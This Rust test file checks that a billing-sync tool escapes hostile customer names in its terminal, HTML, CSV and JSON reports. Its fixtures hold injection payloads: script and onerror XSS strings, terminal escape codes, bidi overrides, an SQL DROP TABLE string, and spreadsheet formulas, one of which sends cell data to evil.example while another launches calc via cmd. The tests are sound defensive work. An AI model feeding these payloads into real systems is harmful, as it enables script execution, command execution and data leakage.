use std::collections::BTreeSet;

use paid_sync::report::REPORTS;
use serde_json::{Value, json};

use super::site::{LONG_AGO, Site, customer, serve_account};
use crate::support::script::Script;

/// Markup, terminal codes, formulas, text that turns round or hides, statements.
pub(crate) const NAMES: [&str; 17] = [
    "<script>alert('paid')</script> Ltd",
    "<img src=x onerror=alert(1)>",
    "\"><svg/onload=alert(1)>&amp;",
    "\u{1b}[31mRed\u{1b}[0m \u{1b}]0;owned\u{7}",
    "\u{9b}2J cleared",
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")",
    "+1-555-CALC|cmd",
    "-2+3",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "\u{202e}gnirB Override\u{202c} Co",
    "Zero\u{200b}Width\u{feff}",
    "Line\nbreak, \"quotes\"; and \\backslash\\",
    "Robert'); DROP TABLE customers;--",
    "{\"json\": [1, null]}",
];
/// The account's own id is text of the API too, and every row of a report repeats it.
const ACCOUNT: &str = "=acct\u{1b}[31m<script>1";

/// Mirrors an account whose every customer has a hostile name and owes something.
async fn mirror() -> (Script, Site) {
    let script = Script::start().await;
    let named = || NAMES.iter().enumerate();
    let customers: Vec<Value> =
        named().map(|(number, name)| customer(&format!("cus_{number}"), name)).collect();
    let invoices: Vec<Value> = named().map(|(number, _)| invoice(number)).collect();
    let lists: [(&str, &[Value]); 2] = [("/customers", &customers), ("/invoices", &invoices)];
    serve_account(&script, ACCOUNT, &lists);
    let site = Site::mirroring_only(&["customers", "invoices"], script.base_url().as_str());
    site.run("sync").expect(0, &["published"]);
    (script, site)
}

fn invoice(number: usize) -> Value {
    json!({
        "object": "invoice",
        "id": format!("inv_{number}"),
        "customer": format!("cus_{number}"),
        "number": format!("=cmd|{number}"),
        "amount": 1_000 + number,
        "unpaid_amount": 1_000 + number,
        "terms": 30,
        "paid": false,
        "voided": false,
        "issued_at": LONG_AGO,
        "created_at": LONG_AGO,
    })
}

#[tokio::test(flavor = "multi_thread")]
async fn names_cannot_move_the_cursor_of_a_terminal() {
    let (_script, site) = mirror().await;
    for words in ["report ar_aging", "status", "check", "sync", "sync --full -vvv"] {
        let ended = site.run(words).expect(0, &[]);
        for text in [&ended.stdout, &ended.stderr] {
            let harmful = |letter: char| {
                (letter.is_control() && letter != '\n') || matches!(letter, '\u{202a}'..='\u{202e}')
            };
            assert_eq!(text.chars().find(|letter| harmful(*letter)), None, "{ended}");
        }
    }
    let shown = site.run("report ar_aging").stdout;
    assert!(shown.contains("\u{fffd}[31mRed\u{fffd}[0m"), "{shown}");
    assert!(shown.contains("Line break"), "a name is one line: {shown}");
}

#[tokio::test(flavor = "multi_thread")]
async fn names_cannot_run_in_a_browser() {
    let (_script, site) = mirror().await;
    let page = site.run("report ar_aging --format html").expect(0, &[]).stdout;
    let lower = page.to_lowercase();
    for markup in ["<img", "<svg", "\u{1b}", "\u{202e}"] {
        assert!(!lower.contains(markup), "{markup:?}: {page}");
    }
    assert_eq!(lower.matches("<script").count(), 1, "only ours: {page}");
    assert!(page.contains("script-src 'sha256-"), "and no other may run: {page}");
    assert!(page.contains("&lt;script&gt;alert(&#39;paid&#39;)&lt;/script&gt; Ltd"), "{page}");
    assert!(page.contains("&quot;&gt;&lt;svg/onload=alert(1)&gt;&amp;amp;"), "{page}");
    let (rows, _totals) = page.split_once("<tfoot>").unwrap();
    assert_eq!(rows.matches("<tr>").count(), 1 + NAMES.len(), "a row each, and the heading");
}

#[tokio::test(flavor = "multi_thread")]
async fn names_cannot_run_in_a_spreadsheet() {
    let (_script, site) = mirror().await;
    let text = site.run("report ar_aging --format csv").expect(0, &[]).stdout;
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let heading = reader.headers().unwrap().clone();
    let place = |name: &str| heading.iter().position(|column| column == name).unwrap();
    let (name, account) = (place("customer_name"), place("account_id"));
    let rows: Vec<csv::StringRecord> = reader.records().collect::<Result<_, _>>().unwrap();
    let mut found = BTreeSet::new();
    for row in &rows {
        for cell in row.iter().filter(|cell| cell.parse::<i64>().is_err()) {
            let starts = ['=', '+', '-', '@', '\t', '\r', '＝'];
            assert!(!cell.starts_with(starts), "{cell:?} would run: {text}");
        }
        found.insert(row[name].trim_start_matches('\'').to_owned());
        assert_eq!(row[account].trim_start_matches('\''), ACCOUNT);
    }
    assert_eq!(found, NAMES.map(str::to_owned).into(), "the quote in front is all that changes");
}

/// Every report, not only the ageing, and the page with all of them.
#[tokio::test(flavor = "multi_thread")]
async fn names_are_harmless_in_every_report() {
    let (_script, site) = mirror().await;
    let harmful = |letter: char| {
        (letter.is_control() && letter != '\n') || matches!(letter, '\u{202a}'..='\u{202e}')
    };
    for name in REPORTS.iter().map(|report| report.name) {
        let shown = site.run(&format!("report {name}")).expect(0, &[]);
        assert_eq!(shown.stdout.chars().find(|letter| harmful(*letter)), None, "{shown}");
        let text = site.run(&format!("report {name} --format csv")).expect(0, &[]).stdout;
        for row in csv::Reader::from_reader(text.as_bytes()).records() {
            let row = row.unwrap();
            for cell in row.iter().filter(|cell| cell.parse::<f64>().is_err()) {
                let starts = ['=', '+', '-', '@', '\t', '\r', '＝'];
                assert!(!cell.starts_with(starts), "{name}: {cell:?} would run: {text}");
            }
        }
    }
    let page = site.run("report --format html").expect(0, &[]).stdout;
    let lower = page.to_lowercase();
    for markup in ["<img", "<svg/", "<script>alert", "\u{1b}", "\u{202e}"] {
        assert!(!lower.contains(markup), "{markup:?} is in the page");
    }
    assert!(page.contains("&lt;script&gt;alert(&#39;paid&#39;)&lt;/script&gt; Ltd"), "{page}");
}

#[tokio::test(flavor = "multi_thread")]
async fn names_reach_programs_as_they_were_sent() {
    let (_script, site) = mirror().await;
    let ended = site.run("report ar_aging --format json").expect(0, &[]);
    let named = NAMES.map(|name| Value::from(name).to_string());
    let rows = ended.json();
    let found: BTreeSet<_> =
        rows.as_array().unwrap().iter().map(|row| row["customer_name"].to_string()).collect();
    assert_eq!(found, named.into());
    assert!(!ended.stdout.contains(['\u{1b}', '\u{9b}']), "{ended}");
}
